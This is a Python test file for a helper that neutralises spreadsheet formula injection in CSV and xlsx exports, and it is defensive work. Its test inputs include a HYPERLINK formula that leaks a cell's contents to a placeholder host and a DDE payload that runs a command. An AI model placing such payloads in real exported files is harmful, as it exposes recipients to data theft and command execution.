"""Formula-safe cells: OWASP's CSV-injection starts are neutralised, other values kept."""

from __future__ import annotations

from datetime import date

import pytest
from openpyxl import Workbook

from inspectkit.safe_cells import csv_value, neutralise, set_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x?leak="&A2,"Open case")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_starts_are_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("text", ["CRA/0001", "Example Council", "", "a=b", "'quoted"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_values_the_writer_made_are_kept() -> None:
    assert csv_value(date(2011, 10, 17)) == "2011-10-17"
    assert csv_value(3) == "3"
    assert csv_value(None) == ""


def test_xlsx_cell_is_never_a_formula() -> None:
    sheet = Workbook().active
    assert sheet is not None
    set_cell(sheet["A1"], "=1+1")
    set_cell(sheet["A2"], date(2012, 6, 11))
    set_cell(sheet["A3"], 20)
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "'=1+1"
    assert sheet["A2"].is_date
    assert sheet["A3"].data_type == "n"
